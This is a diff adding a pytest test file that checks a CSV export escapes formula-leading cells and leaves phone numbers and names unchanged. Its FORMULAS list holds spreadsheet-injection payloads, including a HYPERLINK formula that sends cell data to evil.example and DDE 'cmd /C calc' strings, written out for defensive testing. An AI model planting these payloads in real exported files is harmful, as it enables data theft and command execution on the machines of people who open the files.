@@ -1,0 +1,37 @@
+"""CSV exports escape cells a spreadsheet would run as formulas; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from casegraph.core.cells import safe_cell
+from casegraph.services.rows import render_rows
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+PLAIN = ["+254 712 555 301", "-12.5", "-", "Boss Sammy", "", "a=b", "2024-05-14"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_leading_cells_get_an_apostrophe(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_names_numbers_and_phones_are_unchanged(text):
+    assert safe_cell(text) == text
+
+
+def test_query_csv_output_is_escaped():
+    rows = [{"name": f, "phone": "+254712555301", "n": -5} for f in FORMULAS]
+    written = list(csv.DictReader(io.StringIO(render_rows(rows, "csv"))))
+    assert [r["name"] for r in written] == ["'" + f for f in FORMULAS]
+    assert {r["phone"] for r in written} == {"+254712555301"} and written[0]["n"] == "-5"
